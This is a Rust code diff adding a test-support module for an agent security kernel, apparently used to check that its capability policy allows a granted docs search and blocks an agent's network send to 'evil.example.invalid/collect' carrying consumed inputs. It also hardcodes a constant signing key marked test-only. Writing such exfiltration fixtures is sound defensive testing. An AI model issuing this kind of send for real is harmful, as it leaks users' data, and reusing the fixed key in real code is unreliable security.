@@ -32,3 +32,51 @@ pub(crate) fn scratch(dir: &str, name: &str) -> PathBuf {
     let _ = std::fs::remove_file(&path);
     path
 }
+
+/// The embedding tests' kernel: a deterministic TEST KEY, a fixed clock, counter ids, a fixed
+/// log id and salt, over `policy`.
+pub(crate) mod embedding {
+    use std::sync::Arc;
+
+    use agentk_capability::{SignerSource, SigningIdentity};
+    use agentk_flightlog::builder::KernelBuilder;
+    use agentk_flightlog::event::InputRef;
+    use agentk_flightlog::kernel::{Kernel, SyscallRequest};
+    use agentk_labels::Syscall;
+    use agentk_policy::Profile;
+
+    use super::{Counter, FixedClock};
+
+    /// Deterministic test key. Never use it anywhere else.
+    pub(crate) fn test_key() -> Arc<SigningIdentity> {
+        Arc::new(SigningIdentity::from_secret(&[3; 32], SignerSource::Embedded))
+    }
+
+    /// The starter policy with `uses` for the docs-search grant.
+    pub(crate) fn policy_with_uses(uses: u32) -> String {
+        Profile::Starter.source().replace("uses = 10\n", &format!("uses = {uses}\n"))
+    }
+
+    pub(crate) fn builder(policy: &str, entropy_start: u64) -> KernelBuilder {
+        Kernel::builder()
+            .policy_text("test", policy)
+            .signer(test_key())
+            .clock(FixedClock)
+            .entropy(Counter(entropy_start))
+            .log_id([9; 32])
+            .salt([4; 32])
+            .origin("agentk-test.example.invalid")
+    }
+
+    /// A granted docs search consuming `inputs`.
+    pub(crate) fn search(inputs: &[InputRef]) -> SyscallRequest<'_> {
+        SyscallRequest::new("agent-1", Syscall::ToolInvoke, "mcp://docs.example.invalid/search")
+            .consuming(inputs)
+            .presenting("demo-docs-search")
+    }
+
+    /// A send to an attacker's host consuming `inputs`.
+    pub(crate) fn exfiltrate(inputs: &[InputRef]) -> SyscallRequest<'_> {
+        SyscallRequest::new("agent-1", Syscall::NetworkSend, "https://evil.example.invalid/collect").consuming(inputs)
+    }
+}
